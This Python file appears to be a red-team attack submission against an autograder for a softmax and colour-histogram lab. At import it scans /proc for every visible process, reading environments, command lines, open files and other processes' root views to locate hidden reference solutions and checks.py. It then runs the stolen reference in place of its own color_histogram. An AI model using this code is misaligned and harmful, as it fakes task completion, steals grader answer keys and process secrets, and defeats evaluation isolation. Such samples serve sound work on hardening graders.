"""Attack: Implements nothing of color_histogram. At import it walks /proc: the
working folder, root, command line, environment, open files and memory maps
of every process it can see (its own excepted). Beside and above every path
those name it looks for reference/softmax_lab.py, checks.py and
assignments/*/checks.py, directly and through /proc/PID/root (another
process's view of the file system, past any mount hiding the files); it also
reads every regular file it can reopen through /proc/PID/fd. If it finds the
reference it runs it for color_histogram.

Built on reference/softmax_lab.py; only the marked parts differ.
"""

import glob
import os
import re
import stat
import time
import torch

# --- attack: runs at import ---------------------------------------------
STOLEN = {}
MARKER = "# BEGIN " + "SOLUTION"  # spelled apart so that this file never matches itself
PATH = re.compile(r"/[A-Za-z0-9_.+@,=-][A-Za-z0-9_.+@,=/-]*")


def _read(path, limit=4 << 20):
    """The bytes of a regular file (or a /proc file), without blocking on fifos or ttys."""
    try:
        handle = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError:
        return None
    try:
        if not stat.S_ISREG(os.fstat(handle).st_mode):
            return None
        chunks, size = [], 0
        while size < limit:
            chunk = os.read(handle, 1 << 16)
            if not chunk:
                break
            chunks.append(chunk)
            size += len(chunk)
        return b"".join(chunks)
    except OSError:
        return None
    finally:
        os.close(handle)


def _keep(where, text):
    if "def color_histogram" in text and MARKER in text:
        STOLEN[where] = text
    elif "@check(" in text and "def " in text and "softmax" in text:
        STOLEN[where] = text


def _leads(pid):
    """Paths process `pid` reveals: its folders, arguments, environment, files, libraries."""
    base = f"/proc/{pid}"
    found = set()
    cwd = None
    for link in ("cwd", "root", "exe"):
        try:
            target = os.readlink(f"{base}/{link}")
        except OSError:
            continue
        found.add(target)
        if link == "cwd":
            cwd = target
    for name, separator in (("cmdline", b"\0"), ("environ", b"\0"), ("maps", b"\n")):
        data = _read(f"{base}/{name}") or b""
        for item in data.split(separator):
            text = item.decode(errors="replace")
            found.update(PATH.findall(text))
            if name == "cmdline" and cwd and text and not text.startswith(("-", "/")) and "/" in text:
                found.add(os.path.join(cwd, text))  # a relative path argument
    try:
        descriptors = os.listdir(f"{base}/fd")
    except OSError:
        descriptors = []
    for fd in descriptors:
        try:
            target = os.readlink(f"{base}/fd/{fd}")
        except OSError:
            continue
        found.add(target)
        if target.endswith(".py"):  # the open file itself, even if hidden or deleted
            data = _read(f"{base}/fd/{fd}")
            if data:
                _keep(f"{base}/fd/{fd} -> {target}", data.decode(errors="replace"))
    return found


def _hunt():
    deadline = time.monotonic() + 8
    me = os.getpid()
    pids = sorted(int(e) for e in os.listdir("/proc") if e.isdigit() and int(e) != me)
    folders = set()  # (prefix, folder): prefix "" or /proc/PID/root
    for pid in pids:
        if time.monotonic() > deadline:
            break
        for path in _leads(pid):
            path = os.path.normpath(path.split(" (deleted)")[0])
            while path not in ("", "/"):
                for prefix in ("", f"/proc/{pid}/root"):
                    folders.add((prefix, path))
                path = os.path.dirname(path)
    tried = 0
    for prefix, folder in sorted(folders):
        if time.monotonic() > deadline:
            break
        where = prefix + folder
        candidates = [os.path.join(where, "reference", "softmax_lab.py"), os.path.join(where, "checks.py")]
        try:
            candidates += glob.glob(os.path.join(where, "assignments", "*", "checks.py"))
        except OSError:
            pass
        for candidate in candidates:
            tried += 1
            data = _read(candidate)
            if data:
                _keep(candidate, data.decode(errors="replace"))
    print(f"gradecheck-attack proc thief: {len(pids)} processes, {tried} paths, stole {sorted(STOLEN)}",
          flush=True)
    for where, text in STOLEN.items():
        print(f"STOLEN {where}: {text[:200]!r}", flush=True)


_hunt()
# --- end of attack -----------------------------------------------------


def softmax(a):
    """Return the softmax over all entries of `a`, same shape; stable for huge logits."""
    shifted = a - a.max()
    exps = torch.exp(shifted)
    return exps / exps.sum()


def linear(x, weight, bias):
    """Return weight @ x + bias: (C, D) @ (D, 1) + (C, 1) -> (C, 1)."""
    return torch.mm(weight, x) + bias


def loss(label, predictions):
    """Return the negative log-likelihood -log(predictions[label]) as a one-value tensor."""
    return -torch.log(predictions[label])


def loss_softmax_backward(label, predictions):
    """Return dloss/da = predictions - onehot(label), where predictions = softmax(a)."""
    grad = predictions.clone()
    grad[label] -= 1
    return grad


def linear_backward(x, weight, bias, gradOutput):
    """Return (gradWeight, gradBias) given gradOutput = dloss/d(weight @ x + bias)."""
    gradWeight = torch.mm(gradOutput, x.t())
    gradBias = gradOutput.clone()
    return gradWeight, gradBias


def loss_backward(label, predictions):
    """Return dloss/dpredictions for loss = -log(predictions[label]), same shape."""
    grad = torch.zeros_like(predictions)
    grad[label] = -1.0 / predictions[label]
    return grad


def softmax_backward(inputTensor, gradOutput):
    """Return dloss/da given gradOutput = dloss/dy and y = softmax(inputTensor), same shape.

    This is the Jacobian-vector product J^T g with J = diag(y) - y y^T, which
    simplifies to y * (g - <y, g>).
    """
    y = softmax(inputTensor)
    return y * (gradOutput - (y * gradOutput).sum())


def color_histogram(img, bins):
    """Return the (3 * bins,) colour histogram of a (3, H, W) image with values in [0, 1].

    For R, G and B in that order, each block holds the fraction of the
    channel's pixels in each of `bins` equal-width bins over [0, 1]; the value
    1.0 falls in the last bin, so every block sums to one.
    """
    blocks = []
    for channel in img:
        values = channel.reshape(-1)
        index = torch.clamp((values * bins).long(), 0, bins - 1)
        counts = torch.bincount(index, minlength=bins).to(img.dtype)
        blocks.append(counts / values.numel())
    return torch.cat(blocks)


def max_margin_loss(label, scores, delta):
    """Return the multiclass hinge loss: sum over j != label of max(0, s_j - s_label + delta)."""
    margins = torch.clamp(scores - scores[label] + delta, min=0)
    margins[label] = 0
    return margins.sum()


def max_margin_loss_backward(label, scores, delta):
    """Return the gradient of max_margin_loss with respect to scores, same shape."""
    active = (scores - scores[label] + delta > 0).to(scores.dtype)
    active[label] = 0
    grad = active.clone()
    grad[label] = -active.sum()
    return grad


# --- attack: replaces reference functions -------------------------------
def color_histogram(img, bins):
    """Not implemented: runs the stolen reference if there is one."""
    for where, text in STOLEN.items():
        if MARKER in text and "def color_histogram" in text:
            namespace = {}
            exec(compile(text, where, "exec"), namespace)
            return namespace["color_histogram"](img, bins)
    raise NotImplementedError("color_histogram")
